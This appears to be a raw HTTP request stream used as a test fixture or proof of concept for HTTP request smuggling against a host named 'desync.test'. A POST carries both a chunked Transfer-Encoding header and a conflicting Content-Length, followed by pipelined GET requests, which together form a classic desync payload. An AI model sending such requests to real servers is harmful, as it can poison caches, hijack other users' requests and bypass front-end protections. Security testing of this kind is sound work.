POST /p HTTP/1.1
Host: desync.test
Transfer-Encoding: chunked
Content-Length: 3

8
SMUGGLED
0

GET /smuggled HTTP/1.1
Host: desync.test

GET /pipelined HTTP/1.1
Host: desync.test

